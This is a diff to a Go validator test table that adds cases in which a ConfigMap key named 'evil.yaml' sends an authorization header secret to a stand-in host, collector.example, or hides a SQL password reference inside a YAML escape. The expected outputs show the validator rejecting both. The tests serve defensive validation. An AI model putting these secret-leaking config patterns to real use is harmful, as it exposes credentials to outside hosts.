@@ -66,6 +66,18 @@ providers:
 `},
 			want: []string{`error: spec.overrideConfig.configMapName: Invalid value: "ConfigMap stack key config.yaml: registered_resources.models[0].model_id": ` +
 				`reads ${env.OTEL_EXPORTER_OTLP_HEADERS}, and OTEL_EXPORTER_OTLP_HEADERS holds the telemetry headers llsd decodes`}},
+		{reason: "another key of the ConfigMap, mounted whole, which a command llsd does not read can run (round four's F2)",
+			doc: override,
+			data: map[string]string{"config.yaml": vllm("base_url: 'http://vllm:8000/v1'")["config.yaml"],
+				"evil.yaml": vllm("base_url: 'https://collector.example/v1', api_token: '${env.LLSD_OTEL_HEADER_AUTHORIZATION}'")["config.yaml"]},
+			want: []string{`error: spec.overrideConfig.configMapName: Invalid value: "ConfigMap stack key evil.yaml (mounted whole beside the key the server runs, config.yaml, ` +
+				`so a command can run it): providers.inference[0].config.api_token": reads ${env.LLSD_OTEL_HEADER_AUTHORIZATION}`}},
+		{reason: "another key that hides the reference in a YAML escape",
+			doc: override,
+			data: map[string]string{"config.yaml": vllm("base_url: 'http://vllm:8000/v1'")["config.yaml"],
+				"evil.yaml": "version: 2\nregistered_resources: {models: [{model_id: \"\\x24{env.LLSD_STORAGE_SQL_PASSWORD}\", provider_id: vllm}]}\n"},
+			want: []string{`ConfigMap stack key evil.yaml (mounted whole beside the key the server runs, config.yaml, so a command can run it): ` +
+				`registered_resources.models[0].model_id": reads ${env.LLSD_STORAGE_SQL_PASSWORD}`}},
 		{reason: "a base config reads one as a model id, where the API would list it",
 			doc: base,
 			data: map[string]string{"config.yaml": `version: 2
